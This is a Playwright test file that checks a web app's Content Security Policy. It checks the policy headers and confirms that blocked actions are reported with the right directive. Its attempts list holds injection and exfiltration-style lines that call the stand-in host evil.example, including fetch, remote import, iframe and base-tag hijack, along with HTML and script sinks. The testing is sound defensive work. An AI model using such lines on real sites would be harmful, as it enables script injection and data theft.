import { paths } from '../../src/routes.ts';
import { expect, test } from '../helpers/browser.ts';
import { CAMPAIGN, places, visit } from '../helpers/places.ts';

const META = /<head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="([^"]+)">/;
// Their address is also one of pages with a policy of their own, or of no page at all: the header holds what all pages share.
const shared: readonly string[] = [paths.campaign('nobody-knows-this-one'), '/no/such/path'];

test('every template is sent with the policy that stands first in it', async ({ request }) => {
  for (const path of new Set(places.map((place) => place.path.split('#')[0] ?? ''))) {
    const answer = await request.get(path);
    const [, policy = ''] = META.exec(await answer.text()) ?? [];
    expect(policy).toMatch(/^default-src 'none';.*base-uri 'none'/);
    const header = answer.headers()['content-security-policy'];
    const rest = "frame-ancestors 'none';report-uri /api/open/policy-report";
    if (shared.includes(path)) expect(header).toBe(`object-src 'none';${rest}`);
    else expect(header, path).toBe(`${policy}${rest}`);
  }
});

const APPEND = 'document.body.append';
// Ways to bring in or carry out what does not belong to the page, and the directive that stops each.
const attempts = [
  ['img-src', "new Image().src = 'https://evil.example/x.png'"],
  ['connect-src', "fetch('https://evil.example/').catch(() => {})"],
  ['frame-src', `${APPEND}(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`],
  ['style-src-attr', "document.body.setAttribute('style', 'color: red')"],
  ['base-uri', `${APPEND}(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`],
  ['script-src-elem', "import('https://evil.example/x.js').catch(() => {})"],
] as const;
// Where no guest's script runs, text is no script and no HTML.
const sinks = [
  ['require-trusted-types-for', "document.body.insertAdjacentHTML('beforeend', '<img src=x>')"],
  ['require-trusted-types-for', "document.createElement('script').text = 'ran = 1'"],
  ['require-trusted-types-for', "navigator.serviceWorker.register('/evil.js').catch(() => {})"],
  ['trusted-types', "trustedTypes.createPolicy('default', { createHTML: (html) => html })"],
] as const;

test.describe('what the policy forbids', () => {
  // Playwright blocks service workers with a function of its own, which no policy stops.
  test.use({ blocks: true, serviceWorkers: 'allow' });

  for (const [path, tried] of [
    [paths.campaign(CAMPAIGN), [...attempts, ...sinks]],
    [
      paths.login,
      [
        ...attempts,
        ['script-src-elem', `${APPEND}(Object.assign(document.createElement('script'), { text: 'ran = 1' }))`],
      ],
    ],
  ] as const)
    test(`does not happen on ${path}`, { tag: path !== paths.login ? '@thorough' : [] }, async ({ page, site }) => {
      await visit(page, site, { path, login: false });
      for (const [directive, attempt] of tried) {
        const stopped = await page.evaluate(`new Promise((done) => {
          addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective), { once: true });
          try { ${attempt} } catch {}
        })`);
        expect(stopped, attempt).toBe(directive);
      }
      expect(await page.evaluate("'ran' in window")).toBe(false);
      await expect.poll(() => site.output()).toContain('policy blocked: ');
    });
});
